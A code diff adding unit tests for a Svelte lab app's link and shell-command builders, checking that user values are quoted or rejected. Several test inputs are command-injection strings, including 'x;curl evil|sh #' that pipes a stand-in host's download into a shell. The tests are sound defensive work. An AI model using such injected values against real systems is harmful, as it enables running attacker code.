@@ -9,6 +9,8 @@ import { option } from './lab_answers';
 vi.mock('../src/api/client', (original) => fakeClient(original));
 
 import App from '../src/App.svelte';
+import { linkOf } from '../src/lab/link';
+import { commandOf } from '../src/regulator/command';
 import { pauses } from '../src/regulator/job.svelte';
 import { go } from '../src/state/router.svelte';
 import { speak } from '../src/texts/texts.svelte';
@@ -133,6 +135,25 @@ describe('a result', () => {
     await waitFor(() => expect(at(container, '[data-refused]')).not.toBeNull());
     if (language === 'en') expect(at(container, '[data-refused]')!.textContent).toContain(says);
     else expect(at(container, '[data-refused]')!.textContent).toContain('Le calcul n’a pas abouti');
+  });
+});
+
+describe('addresses and commands', () => {
+  it('name the part of the lab and everything that was chosen', () => {
+    const b = { game: 'x', chosen: { decks: '8' } };
+    expect(linkOf({ b, a: null })).toBe('/lab?game=x&set=decks%3D8');
+    expect(linkOf({ b, a: { game: 'y', chosen: {} } }, 'difference')).toBe('/lab/difference?game=x&set=decks%3D8&a=y');
+  });
+
+  it('are what a terminal takes', () => {
+    expect(commandOf({ game: 'x', chosen: { pays: '3:2', decks: '8' } }, null)).toBe(
+      'pitboss petition x --set decks=8 --set pays=3:2 --out petition',
+    );
+    expect(commandOf({ game: 'x', chosen: { pays: "it's ; rm" } }, 100_000)).toBe(
+      String.raw`pitboss petition x --set 'pays=it'\''s ; rm' --rounds 100000 --out petition`,
+    );
+    expect(commandOf({ game: 'x;curl evil|sh #', chosen: {} }, null)).toBe("pitboss petition 'x;curl evil|sh #' --out petition");
+    expect(commandOf({ game: 'x', chosen: { pays: '\u0003curl evil' } }, null)).toBeNull();
   });
 });
 
